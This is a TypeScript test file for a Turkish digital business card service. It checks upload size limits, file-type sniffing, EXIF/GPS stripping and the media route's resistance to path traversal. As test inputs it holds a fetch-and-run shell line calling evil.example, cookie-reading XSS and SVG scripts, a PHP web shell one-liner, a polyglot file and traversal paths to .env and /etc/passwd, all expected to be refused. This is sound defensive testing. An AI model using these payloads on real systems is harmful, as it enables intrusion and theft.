import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MESSAGES } from '@kartvizit/schemas';
import { startTestProduct, type TestProduct } from '../support/product.ts';
import { media, photo, profileForm, registerOwner, saveProfile, type Owner } from './profile-fixtures.ts';

/**
 * Uploads as an attacker or a careless phone would send them: too big, not images at all, full
 * of EXIF with a GPS position; and the media route asked for files it must not give out.
 */
let product: TestProduct;
let owner: Owner;
const dist = mkdtempSync(join(tmpdir(), 'kartvizit-dist-'));
const base = mkdtempSync(join(tmpdir(), 'kartvizit-media-'));
const blobDir = join(base, 'blobs');

beforeAll(async () => {
  // With the web app mounted, so a missing media file must not come back as the app shell.
  writeFileSync(join(dist, 'index.html'), '<!doctype html><html lang="tr"><title>Dijital Kartvizit</title></html>');
  // A file a path traversal would reach, beside the store's directory.
  writeFileSync(join(base, 'package.json'), '{"secret":true}');
  product = await startTestProduct({ webDistDir: dist, blobDir });
  owner = await registerOwner(product);
});
afterAll(async () => {
  await product?.close();
  rmSync(dist, { recursive: true, force: true });
  rmSync(base, { recursive: true, force: true });
});

const MB = 1024 * 1024;

/** Starts like a JPEG, then just bytes: the size check comes before any decoding. */
function oversized(bytes: number): Buffer {
  const buffer = Buffer.alloc(bytes, 0x41);
  buffer.set([0xff, 0xd8, 0xff, 0xe0]);
  return buffer;
}

async function expectRefused(form: FormData, expected: { status: number; message: string; field?: string }) {
  const before = await product.eventCount();
  const answer = await saveProfile(product, 'POST', form, owner.token);
  expect(answer.status, JSON.stringify(answer.body)).toBe(expected.status);
  expect(answer.body).toEqual({ success: false, message: expected.message, ...(expected.field ? { field: expected.field } : {}) });
  expect(await product.eventCount()).toBe(before);
  expect(await storedFiles()).toEqual([]);
}

async function storedFiles(): Promise<string[]> {
  const { readdir } = await import('node:fs/promises');
  try {
    return (await readdir(join(blobDir, 'profiles', owner.userId))).sort();
  } catch {
    return [];
  }
}

describe('size limits (SPEC §5, §9)', () => {
  it.each([
    ['profilePicture', 2 * MB + 1, "Profil resmi 2MB'dan küçük olmalıdır"],
    ['coverPhoto', 4 * MB + 1, "Kapak fotoğrafı 4MB'dan küçük olmalıdır"],
    ['companyLogo', 2 * MB + 1, "Şirket logosu 2MB'dan küçük olmalıdır"],
  ])('%s over its limit is refused with 413 and the Turkish message', async (slot, bytes, message) => {
    await expectRefused(profileForm({ firstName: 'Ayşe' }, { [slot]: { bytes: oversized(bytes), name: 'buyuk.jpg', type: 'image/jpeg' } }), {
      status: 413,
      message,
      field: slot,
    });
  });

  it('a file far over every limit is refused the same way', async () => {
    await expectRefused(profileForm({}, { coverPhoto: { bytes: oversized(9 * MB), name: 'dev.jpg', type: 'image/jpeg' } }), {
      status: 413,
      message: MESSAGES.profileCoverPhotoTooLarge,
      field: 'coverPhoto',
    });
  });

  it('a cover photo of 3 MB is fine where a profile picture of 3 MB is not', async () => {
    await expectRefused(profileForm({}, { profilePicture: { bytes: oversized(3 * MB), name: 'a.jpg', type: 'image/jpeg' } }), {
      status: 413,
      message: MESSAGES.profilePictureTooLarge,
      field: 'profilePicture',
    });
  });
});

describe('what the bytes really are', () => {
  it.each([
    ['a shell script named .png', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'resim.png', 'image/png'],
    ['an HTML page named .png', Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>'), 'resim.png', 'image/png'],
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.svg', 'image/svg+xml'],
    ['a PHP file claiming to be a JPEG', Buffer.from('<?php system($_GET["c"]); ?>'), 'foto.jpg', 'image/jpeg'],
  ])('%s is refused with a Turkish message', async (_label, bytes, name, type) => {
    await expectRefused(profileForm({}, { profilePicture: { bytes, name, type } }), {
      status: 400,
      message: MESSAGES.profileImageNotAnImage,
      field: 'profilePicture',
    });
  });

  it('a GIF is not among the accepted types', async () => {
    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).gif().toBuffer();
    await expectRefused(profileForm({}, { companyLogo: { bytes: gif, name: 'logo.png', type: 'image/png' } }), {
      status: 400,
      message: MESSAGES.profileImageNotAnImage,
      field: 'companyLogo',
    });
  });

  it('a JPEG header glued to a script is refused as unreadable', async () => {
    const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]);
    await expectRefused(profileForm({}, { profilePicture: { bytes: polyglot, name: 'x.jpg', type: 'image/jpeg' } }), {
      status: 400,
      message: MESSAGES.profileImageUnreadable,
      field: 'profilePicture',
    });
  });

  it('a real image sent with a wrong name and type is accepted, stored by what it is', async () => {
    const bytes = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#123456' } }).webp().toBuffer();
    const other = await registerOwner(product);
    const answer = await saveProfile(product, 'POST', profileForm({}, { profilePicture: { bytes, name: 'belge.pdf', type: 'application/pdf' } }), other.token);
    expect(answer.status).toBe(200);
    const served = await media(product, answer.body.profile?.profilePicture ?? '');
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect((await sharp(served.rawPayload).metadata()).format).toBe('jpeg');
  });

  it('a file under a field that takes no file is refused', async () => {
    await expectRefused(profileForm({}, { firstName: { bytes: await photo(10, 10), name: 'a.jpg', type: 'image/jpeg' } }), {
      status: 400,
      message: MESSAGES.profileImageFieldUnexpected,
      field: 'firstName',
    });
  });

  it('an empty file input (no file chosen) is no new image', async () => {
    const other = await registerOwner(product);
    const form = profileForm({ firstName: 'Ece' });
    form.append('profilePicture', new Blob([], { type: 'application/octet-stream' }), '');
    const answer = await saveProfile(product, 'POST', form, other.token);
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    expect(answer.body.profile?.profilePicture).toBeNull();
  });
});

describe('metadata', () => {
  it('strips EXIF with the GPS position and turns the photo upright', async () => {
    const original = await photo(60, 40, '#2c3e50', true);
    const exif = (await sharp(original).metadata()).exif;
    expect(exif).toBeDefined();
    expect(original.includes(Buffer.from('GizliKamera'))).toBe(true);
    expect(hasGpsIfd(exif ?? Buffer.alloc(0))).toBe(true);

    const other = await registerOwner(product);
    const answer = await saveProfile(product, 'POST', profileForm({}, { profilePicture: { bytes: original, name: 'konum.jpg', type: 'image/jpeg' } }), other.token);
    expect(answer.status).toBe(200);
    for (const url of [answer.body.profile?.profilePicture, answer.body.profile?.thumbnails.profilePicture]) {
      const served = await media(product, url ?? '');
      expect(served.statusCode).toBe(200);
      const metadata = await sharp(served.rawPayload).metadata();
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      expect(metadata.orientation ?? 1).toBe(1);
      expect([metadata.width, metadata.height]).toEqual([40, 60]);
      expect(served.rawPayload.includes(Buffer.from('Exif'))).toBe(false);
      expect(served.rawPayload.includes(Buffer.from('GizliKamera'))).toBe(false);
    }
  });
});

describe('the media route', () => {
  it.each([
    '/media/missing.jpg',
    '/media/profiles/00000000-0000-4000-8000-000000000000/picture-00000000000000000000000000000000.jpg',
    '/media/profiles',
    '/media',
    '/media/',
  ])('%s that does not exist is a real JSON 404, not the app shell', async (url) => {
    const response = await media(product, url);
    expect(response.statusCode).toBe(404);
    expect(response.headers['content-type']).toContain('application/json');
    expect(JSON.parse(response.body)).toEqual({ success: false, message: MESSAGES.notFound });
  });

  it.each([
    '/media/../package.json',
    '/media/..%2f..%2fpackage.json',
    '/media/%2e%2e/%2e%2e/package.json',
    '/media/profiles/..%2F..%2F..%2Fetc%2Fpasswd',
    '/media/..%5c..%5cpackage.json',
    '/media/%252e%252e/package.json',
    '/media/.env',
    '/media/PROFILES/X.JPG',
    '/media/profiles/a.jpg%00.png',
  ])('%s never leaves the store', async (url) => {
    const response = await media(product, url);
    expect(response.statusCode).toBe(404);
    expect(response.body).not.toContain('secret');
  });

  it('answers HEAD with the headers only', async () => {
    const other = await registerOwner(product);
    const answer = await saveProfile(product, 'POST', profileForm({}, { profilePicture: { bytes: await photo(30, 30), name: 'a.jpg', type: 'image/jpeg' } }), other.token);
    const response = await product.app.inject({ method: 'HEAD', url: answer.body.profile?.profilePicture ?? '' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('image/jpeg');
    expect(response.rawPayload.length).toBe(0);
  });
});

/** True when IFD0 of a raw EXIF block points at a GPS IFD (tag 0x8825). */
function hasGpsIfd(exif: Buffer): boolean {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0') >= 0 ? 6 : 0);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd = u32(4);
  const count = u16(ifd);
  for (let entry = 0; entry < count; entry++) {
    if (u16(ifd + 2 + entry * 12) === 0x8825) return true;
  }
  return false;
}
